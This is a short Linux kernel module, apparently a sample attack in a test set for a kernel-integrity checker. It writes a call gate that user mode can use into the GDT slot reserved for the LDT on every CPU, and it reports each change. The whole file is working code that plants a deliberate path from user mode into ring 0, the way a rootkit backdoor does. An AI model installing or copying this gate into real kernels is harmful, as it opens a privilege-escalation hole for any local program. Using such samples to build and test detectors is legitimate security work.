// SPDX-License-Identifier: GPL-2.0-only
/*
 * Puts a call gate that user mode may use into the GDT of every CPU, where
 * the descriptor of an LDT would be: nothing there is ever loaded as long as
 * no program asks for an LDT.
 */
#include "attack.h"
#include <linux/cpu.h>
#include <asm/desc.h>

static const int entry = GDT_ENTRY_LDT;

static void target(void)
{
}

static int __init gdt_callgate_init(void)
{
	unsigned long to = (unsigned long)target;
	/* AMD APM vol. 2, "Call Gate" in long mode: type 0xc, DPL 3, present. */
	struct gate_struct gate = {
		.offset_low = (u16)to,
		.segment = __KERNEL_CS,
		.bits = { .type = 0xc, .dpl = 3, .p = 1 },
		.offset_middle = (u16)(to >> 16),
		.offset_high = (u32)(to >> 32),
	};
	int cpu;

	cpus_read_lock();
	for_each_online_cpu(cpu) {
		struct desc_struct *gdt = get_cpu_gdt_rw(cpu);
		u64 old = *(u64 *)&gdt[entry];

		memcpy(&gdt[entry], &gate, sizeof(gate));
		report("gdt", cpu, entry, old, *(u64 *)&gdt[entry]);
	}
	cpus_read_unlock();
	return 0;
}

static void __exit gdt_callgate_exit(void)
{
	int cpu;

	cpus_read_lock();
	for_each_online_cpu(cpu)
		memset(&get_cpu_gdt_rw(cpu)[entry], 0, sizeof(struct gate_struct));
	cpus_read_unlock();
}

module_init(gdt_callgate_init);
module_exit(gdt_callgate_exit);
MODULE_DESCRIPTION("Attack: call gate in the GDT");
MODULE_LICENSE("GPL v2");
